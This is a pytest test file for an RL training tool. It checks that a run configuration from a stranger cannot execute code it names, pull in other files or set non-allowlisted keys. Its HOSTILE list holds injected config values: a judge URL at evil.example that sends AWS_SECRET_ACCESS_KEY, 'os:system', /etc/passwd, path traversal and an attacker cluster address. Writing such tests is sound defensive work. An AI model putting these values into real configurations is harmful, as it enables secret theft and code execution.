"""Whose a run is: code that a stranger's configuration names does not run unasked."""

from __future__ import annotations

import argparse
import shutil
from pathlib import Path

import pytest

from rlflow.commands import cli
from rlflow.commands.eval import evaluation_config
from rlflow.config.loading import save_config
from rlflow.config.schema import RunConfig, load_config
from rlflow.errors import ConfigError
from rlflow.run.origin import ORIGIN, ModelDirectory, is_own, mark_own, starting_model
from tests.flow.letters import letters_config


@pytest.fixture
def config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The config.yaml of a run that names a file of its own, which tells when it runs."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    run = tmp_path / "run"
    (run / "export").mkdir(parents=True)
    (run / "export" / "config.json").write_text("{}")
    (run / "evil.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w').close()\n")
    named = f"environment={{name: '{run}/evil.py:Evil', reward: 'other:Thing'}}"
    save_config(
        letters_config(tmp_path, tmp_path, named, "model.trust_remote_code=true"),
        run / "config.yaml",
    )
    return run / "config.yaml"


def chosen(config: Path, *overrides: str, allow_code: bool = False) -> RunConfig:
    given = {
        "config": None,
        "data": None,
        "env": None,
        "allow_code": allow_code,
        "overrides": list(overrides),
    }
    options = dict.fromkeys(vars(cli.parse(["eval", "--model", "x"]))) | given
    return evaluation_config(
        argparse.Namespace(**options), ModelDirectory(config.parent / "export", "run", config)
    )


def test_a_strangers_run_names_what_is_left_out_and_runs_nothing(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for given in (config.parent / "export", config.parent):
        assert cli.main(["eval", "--model", str(given)]) == 2
        said, missing = capsys.readouterr().err.splitlines()
        assert (
            "evil.py:Evil" in said
            and "environment.reward = other:Thing" in said
            and "--allow-code" in said
        )
        assert "model.trust_remote_code = True" in said and "environment.name" in missing
        assert not (tmp_path / "ran").exists()
    assert (
        cli.main(["eval", "--model", str(config.parent), "--allow-code"]) == 2
    )  # it holds no Evil
    assert (tmp_path / "ran").exists()


HOSTILE = (
    "environment.reward={name: judge, url: 'http://evil.example', model: m, api_key_variable: AWS_SECRET_ACCESS_KEY}",
    "environment.managed={server: ['--retriever', 'os:system']}",
    "environment.retriever={name: http, urls: 'http://evil.example'}",
    "environment.corpus=/etc/passwd",
    "environment.protocol=evil.protocol",
    "environment.never_heard_of=true",
    "rollout.engine={name: vllm, python: /tmp/evil}",
    "rollout.faults.call_s=1e9",
    "model.trust_remote_code=true",
    "data.val_split=../val",
    "data.curator={name: epochs, evil: 1}",
    "rollout.chat_template_options={evil: 'http://evil.example'}",
    "cluster.address=evil.example:6379",
    "metrics.sinks=[{name: wandb, entity: evil}]",
    "algorithm.teacher={name: http, url: 'http://evil.example'}",
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_of_a_strangers_run_only_listed_keys_with_plain_values_are_taken(
    config: Path, hostile: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Each would be the stranger's to choose but for the list: none of them is on it, whatever form its value has."""
    listed = [
        "environment.name=search",
        "environment.top_k=7",
        "environment.max_turns=2",
        "rollout.max_total_tokens=99",
        "rollout.chat_template_options.enable_thinking=false",
    ]
    plain = load_config(None, [*listed, f"model.path={config.parent / 'export'}"])
    save_config(load_config(None, [*listed, hostile]), config)
    assert chosen(config) == plain
    assert hostile.partition("=")[0].partition(".")[0] in caplog.text and "left out" in caplog.text


def test_what_the_user_gives_beside_a_strangers_run_is_taken(config: Path) -> None:
    save_config(
        load_config(None, ["environment={name: search, protocol: rlinf, corpus: /etc/passwd}"]),
        config,
    )
    taken = chosen(config, "environment.corpus=mine.jsonl", "rollout.engine.name=mine:Engine")
    assert taken.environment == {"name": "search", "protocol": "rlinf", "corpus": "mine.jsonl"}
    assert taken.rollout.engine["name"] == "mine:Engine"


def test_a_strangers_configuration_reads_no_other_file_and_costs_no_more_than_its_length(
    config: Path,
) -> None:
    base = config.with_name("base.yaml")
    base.write_text("rollout: {max_turns: 9}\n")
    config.write_text("base: base.yaml\n")
    assert chosen(config).rollout.max_turns == load_config(None).rollout.max_turns
    lines = [
        "a0: &a0 {x: 1}",
        *(f"a{n}: &a{n} {{x: *a{n - 1}, y: *a{n - 1}}}" for n in range(1, 60)),
    ]
    config.write_text("\n".join(lines))
    with pytest.raises(ConfigError, match="alias"):
        chosen(config)


def test_where_a_strangers_run_started_is_asked_for(config: Path) -> None:
    with pytest.raises(
        ConfigError, match=r"not made by you on this machine; name the model .*: --hf DIR"
    ):
        starting_model(config, "--hf")
    mark_own(config)
    assert starting_model(config, "--hf")


def test_a_run_of_this_user_needs_no_flag_until_it_is_changed(config: Path, tmp_path: Path) -> None:
    mark_own(config)
    assert is_own(config)
    shutil.copytree(config.parent, tmp_path / "copy")
    assert is_own(tmp_path / "copy" / "config.yaml")
    assert chosen(config).environment["reward"] == "other:Thing"
    config.write_text(config.read_text() + "\n")
    assert chosen(config).environment == {}


def test_nobody_can_mark_a_run_for_another_user(
    config: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mark_own(config)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "of another user"))
    assert not is_own(config)
    mark_own(tmp_path / "run" / "evil.py")  # a key exists now
    assert not is_own(config)
    config.with_name(ORIGIN).unlink()
    assert not is_own(config)


def test_a_key_that_others_can_read_is_not_trusted(config: Path, tmp_path: Path) -> None:
    mark_own(config)
    (key,) = (tmp_path / "state").rglob("*.key")
    assert key.stat().st_mode & 0o777 == 0o600
    key.chmod(0o644)
    assert not is_own(config)
